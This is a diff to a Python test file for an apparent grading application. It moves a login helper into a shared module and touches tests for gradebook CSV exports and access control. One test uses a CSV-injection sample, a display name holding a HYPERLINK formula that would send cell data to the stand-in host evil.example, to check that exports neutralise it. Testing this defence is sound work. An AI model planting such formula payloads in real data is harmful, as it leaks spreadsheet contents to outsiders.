@@ -7,6 +7,7 @@ from typing import Any
 
 import pytest
 from openapi_spec_validator import validate
+from support.pages import log_in
 
 from grader.accounts.models import Role
 from grader.accounts.services import issue_token
@@ -339,9 +340,7 @@ def test_gradebooks_leave_out_lti_placeholder_emails(client, course, paraboloid,
     csv_op = document["paths"][f"{PREFIX}/assignments/{{assignment_id}}/grades.csv"]["get"]
     assert "X-Grader-Left-Out" in csv_op["responses"]["200"]["headers"]
 
-    from .test_pages import login
-
-    login(client, instructor)
+    log_in(client, instructor)
     page = client.get(f"/assignments/{paraboloid.id}/gradebook.csv?format=moodle")
     assert page.status_code == 200 and page.headers["X-Grader-Left-Out"] == "1"
     assert "invalid" not in page.get_data(as_text=True)
@@ -351,8 +350,6 @@ def test_exports_never_hand_a_spreadsheet_a_formula(client, course, paraboloid, 
     """A display name such as =HYPERLINK(...) would run as a formula when staff open the CSV."""
     import csv
     import io
-
-    from .test_pages import login
 
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Ada")'
     student = new_user(course, name=formula)
@@ -369,7 +366,7 @@ def test_exports_never_hand_a_spreadsheet_a_formula(client, course, paraboloid, 
             )
         )
         assert "'" + formula in got and formula not in got and "70" in got
-    login(client, instructor)
+    log_in(client, instructor)
     got = cells(client.get(f"/assignments/{paraboloid.id}/scoreboard.csv"))
     assert "'" + formula in got and formula not in got and "70.0" in got
     assert not [cell for cell in got if cell[:1] in ("=", "+", "-", "@")]
@@ -413,11 +410,9 @@ def test_gradescope_results_json(client, course, paraboloid, student_token, staf
 
 
 def test_the_pages_offer_the_exports(client, course, paraboloid, student, student_token, instructor):
-    from .test_pages import login
-
     mine = upload(client, paraboloid.id, student_token)
     grade(mine["id"], score=75.0)
-    csrf = login(client, instructor)
+    csrf = log_in(client, instructor)
     board = client.get(f"/assignments/{paraboloid.id}/scoreboard").get_data(as_text=True)
     for fmt in ("canvas", "moodle"):
         link = f"/assignments/{paraboloid.id}/gradebook.csv?format={fmt}"
@@ -433,7 +428,7 @@ def test_the_pages_offer_the_exports(client, course, paraboloid, student, studen
     assert results.get_json()["score"] == 75.0 and results.get_json()["tests"][0]["max_score"] == 100.0
 
     client.post("/logout", data={"csrf_token": csrf})
-    login(client, student)
+    log_in(client, student)
     assert client.get(f"/submissions/{mine['id']}/results.json").status_code == 403
     assert client.get(f"/assignments/{paraboloid.id}/gradebook.csv?format=canvas").status_code == 403
     assert "results.json" not in client.get(f"/submissions/{mine['id']}/result").get_data(as_text=True)
